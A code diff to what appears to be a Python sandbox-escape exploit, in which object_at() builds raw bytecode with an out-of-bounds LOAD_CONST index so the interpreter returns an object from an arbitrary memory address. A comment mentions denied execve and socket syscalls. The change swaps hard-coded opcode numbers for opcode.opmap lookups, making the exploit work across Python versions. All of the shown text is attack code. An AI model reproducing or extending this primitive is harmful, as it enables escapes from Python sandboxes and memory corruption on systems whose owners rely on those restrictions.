@@ -10,6 +10,7 @@
 # Denied: execve=1 socket=1
 del ctypes, libc, call, raw  # the rest of the program uses none of them
 import mmap
+import opcode
 import struct
 
 
@@ -26,8 +27,9 @@ def object_at(address):
         index = (id(pointer) + 32 - (id(constants) + 24)) // 8  # a bytes object's text; a tuple's first item
         if index > 0:
             break
-    load, extended, result = 100, 144, 83  # LOAD_CONST, EXTENDED_ARG, RETURN_VALUE
-    code = bytes([151, 0])  # RESUME
+    # Each version of Python has its own numbers.
+    load, extended, result = (opcode.opmap[name] for name in ("LOAD_CONST", "EXTENDED_ARG", "RETURN_VALUE"))
+    code = bytes([opcode.opmap["RESUME"], 0])
     for shift in (24, 16, 8):
         code += bytes([extended, index >> shift & 255])
     code += bytes([load, index & 255, result, 0])
